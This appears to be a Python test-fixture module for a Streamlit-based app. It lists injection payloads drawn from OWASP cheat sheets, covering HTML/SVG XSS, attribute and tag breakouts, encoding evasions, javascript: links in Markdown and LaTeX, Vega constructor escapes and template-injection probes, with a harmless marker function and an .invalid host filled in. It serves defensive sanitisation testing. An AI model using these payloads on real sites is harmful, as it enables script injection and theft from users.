"""Texts that would run, fetch or restyle something where a page took them for more than text.

After OWASP's cheat sheets for cross-site scripting and its collection of evasions, and for what
our own pages are made of: Streamlit's Markdown with its directives, KaTeX, Vega's expressions,
Jinja's templates, SVG. In each, `MARK` becomes a script that leaves a mark, `FAR` an address at
which nobody is, and `SUM` a product that a template or an expression would work out.
"""

from dataclasses import dataclass

FAR = "far-away.invalid"
FACTORS = (7411, 9203)
PRODUCT = str(FACTORS[0] * FACTORS[1])
PLACES = ("file name", "outlet", "title", "text", "cell")

_KINDS: dict[str, tuple[str, ...]] = {
    "HTML": (
        "<script>MARK</script>",
        "<ScRiPt >MARK</sCrIpT >",
        "<script src=http://FAR/x.js></script>",
        "<img src=x onerror=MARK>",
        "<img src=x onerror='MARK'//",
        "<IMG SRC=`x` onerror=MARK>",
        "<img/src=x/onerror=MARK>",
        "<img src=http://FAR/pixel.gif>",
        "<body onload=MARK>",
        "<details open ontoggle=MARK>x</details>",
        "<input autofocus onfocus=MARK>",
        "<video><source onerror=MARK></video>",
        "<audio src=x onerror=MARK></audio>",
        '<iframe srcdoc="<script>parent.MARK</script>"></iframe>',
        "<iframe src=javascript:parent.MARK></iframe>",
        "<object data=javascript:MARK></object>",
        "<embed src=http://FAR/x.swf>",
        "<link rel=stylesheet href=http://FAR/x.css>",
        "<style>@import 'http://FAR/y.css';</style>",
        "<base href=http://FAR/>",
        "<meta http-equiv=refresh content='0;url=http://FAR/'>",
        "<form action=http://FAR/><button autofocus onfocus=MARK>x</button></form>",
        "<div style=\"background:url('http://FAR/z.png')\">x</div>",
        "<marquee onstart=MARK>x</marquee>",
        "<div style='animation:a 1s' onanimationstart=MARK>x</div>",
        "<noscript><p title=\"</noscript><img src=x onerror=MARK>\">",
        "<template><img src=x onerror=MARK></template>",
        "<math><mtext><img src=x onerror=MARK></mtext></math>",
    ),
    "HTML out of a place": (
        '"><script>MARK</script>',
        "'><img src=x onerror=MARK>",
        '" onmouseover="MARK" autofocus onfocus="MARK" x="',
        "' autofocus onfocus='MARK' x='",
        "</span></div><script>MARK</script>",
        "</title><script>MARK</script>",
        "</style><img src=x onerror=MARK>",
        "</script><script>MARK</script>",
        "</textarea><img src=x onerror=MARK>",
        "--><img src=x onerror=MARK><!--",
        "]]><img src=x onerror=MARK>",
        "&lt;script&gt;MARK&lt;/script&gt;",
        "&#60;img src=x onerror=MARK&#62;",
        "\\u003cimg src=x onerror=MARK\\u003e",
        "%3Cimg%20src=x%20onerror=MARK%3E",
        "＜img src=x onerror=MARK＞",
    ),
    "SVG": (
        "<svg onload=MARK>",
        "<svg><script>MARK</script></svg>",
        "<svg><animate onbegin=MARK attributeName=x dur=1s></svg>",
        "<svg><a href=javascript:MARK><text y=20>x</text></a></svg>",
        "<svg><image href=http://FAR/a.png></image></svg>",
        "<svg><use href=http://FAR/a.svg#x></use></svg>",
    ),
    "Markdown": (
        "[click](javascript:MARK)",
        "[click](JaVaScRiPt:MARK)",
        "[click](data:text/html,<script>MARK</script>)",
        "![x](http://FAR/m.png)",
        "![x](javascript:MARK)",
        "<javascript:MARK>",
        "[![x](http://FAR/n.png)](http://FAR/)",
        '[x](http://FAR/ "onmouseover=MARK")',
        "```html <img src=x onerror=MARK> ```",
        "| a | <img src=x onerror=MARK> |",
    ),
    "LaTeX": (
        "$\\href{javascript:MARK}{x}$",
        "$$\\includegraphics{http://FAR/l.png}$$",
        "$\\htmlData{x=y}{z}\\htmlStyle{background:url(http://FAR/k.png)}{x}$",
        "$\\url{javascript:MARK}$",
    ),
    "Streamlit": (
        ":red[<img src=x onerror=MARK>]",
        ":material/open_in_new: :streamlit: :red-background[x] :blue-badge[x]",
        ":small[[x](javascript:MARK)]",
        ":red[![x](http://FAR/s.png)]",
    ),
    "Vega": (
        "{'signal': 'PRODUCT'}",
        "{\"expr\": \"SUM\"}",
        "datum.constructor.constructor('MARK')()",
        "' + SUM + '",
        "toString.constructor('MARK')()",
        "http://FAR/v.png",
    ),
    "template": (
        "{{ SUM }}",
        "{% for x in [1] %}{{ SUM }}{% endfor %}",
        "${SUM}",
        "#{SUM}",
        "<%= SUM %>",
        "{{ self.__init__.__globals__ }} {{ SUM }}",
        "{{constructor.constructor('MARK')()}}",
        "%(SUM)s {0.__class__}",
    ),
}  # fmt: skip


@dataclass(frozen=True, slots=True)
class Payload:
    """One hostile text: its number from 0, what it is made for, and itself with its blanks."""

    number: int
    kind: str
    pattern: str

    def at(self, place: str) -> str:
        """Return the text for a place, with a mark that tells number and place."""
        mark = f"__mark({self.number * 10 + PLACES.index(place)})"
        return (
            self.pattern.replace("MARK", mark)
            .replace("FAR", f"{FAR}/{self.number}")
            .replace("SUM", "*".join(map(str, FACTORS)))
            .replace("PRODUCT", "*".join(map(str, FACTORS)))
        )


PAYLOADS = tuple(
    Payload(number, kind, pattern)
    for number, (kind, pattern) in enumerate(
        (kind, pattern) for kind, patterns in _KINDS.items() for pattern in patterns
    )
)


def told(mark: int) -> str:
    """Return which payload in which place left a mark."""
    payload = PAYLOADS[mark // 10]
    return f"{payload.pattern} as {PLACES[mark % 10]}"
